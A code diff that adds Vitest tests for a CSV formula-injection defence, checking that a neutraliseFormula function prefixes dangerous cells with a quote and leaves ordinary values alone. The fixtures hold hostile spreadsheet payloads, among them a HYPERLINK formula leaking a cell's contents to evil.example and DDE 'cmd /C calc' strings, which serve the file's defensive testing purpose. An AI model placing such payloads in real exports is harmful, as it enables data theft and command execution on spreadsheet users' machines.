@@ -1,6 +1,6 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, test } from 'vitest';
-import { csvField, formatCsv, UTF8_BOM } from '../../src/lib/outputs/csv.ts';
+import { csvField, formatCsv, neutraliseFormula, UTF8_BOM } from '../../src/lib/outputs/csv.ts';
 
 describe('csvField', () => {
   test.each([
@@ -35,5 +35,60 @@ describe('formatCsv', () => {
 
   test('round-trips through a real RFC 4180 parser', () => {
     expect(parse(formatCsv(rows, { bom: true }), { bom: true, record_delimiter: '\r\n' })).toEqual(rows);
+  });
+});
+
+describe('neutraliseFormula', () => {
+  test.each([
+    ['=HYPERLINK("https://evil.example/?leak="&A1,"Click for source")', '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click for source")'],
+    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
+    ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', "'\r=1+1"],
+    ['＝1+1', "'＝1+1"],
+    ['＋1', "'＋1"],
+    ['－1', "'－1"],
+    ['＠SUM(A1)', "'＠SUM(A1)"],
+    ['  =1+1', "'  =1+1"],
+    ['-5', "'-5"],
+  ])('makes %j inert as %j', (value, expected) => {
+    expect(neutraliseFormula(value)).toBe(expected);
+  });
+
+  test.each([
+    ['2019-10-07'],
+    ['2019-10-07-us-entity-list'],
+    ['https://example.org/entries/x/'],
+    ['Hikvision (海康威视)'],
+    ['NDAA §889 — “covered” equipment'],
+    ['1'],
+    ['a=b'],
+    ['e-mail'],
+    ['— an em dash first'],
+    [''],
+  ])('leaves %j as it is', (value) => {
+    expect(neutraliseFormula(value)).toBe(value);
+  });
+});
+
+describe('formula injection through a real CSV parser', () => {
+  const hostile = [
+    ['title', 'summary', 'shortName'],
+    ['=HYPERLINK("https://evil.example/?leak="&A1,"Click for source")', "+cmd|' /C calc'!A0", '=1+1'],
+    ['@SUM(1+1)', '-1+1', '\t=1+1'],
+    ['＝1+1', ' =1+1', '\r\n=1+1'],
+  ];
+  const parsed = parse(formatCsv(hostile, { bom: true }), { bom: true, record_delimiter: '\r\n' }) as string[][];
+
+  test('reads back every cell that a spreadsheet would evaluate with a leading quote and nothing else changed', () => {
+    const cells = parsed.slice(1).flat();
+    expect(cells.filter((cell) => /^\s*[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
+    expect(parsed.slice(1)).toEqual(hostile.slice(1).map((row) => row.map((cell) => `'${cell}`)));
+  });
+
+  test('keeps the header row and the number of records', () => {
+    expect(parsed[0]).toEqual(hostile[0]);
+    expect(parsed).toHaveLength(hostile.length);
   });
 });
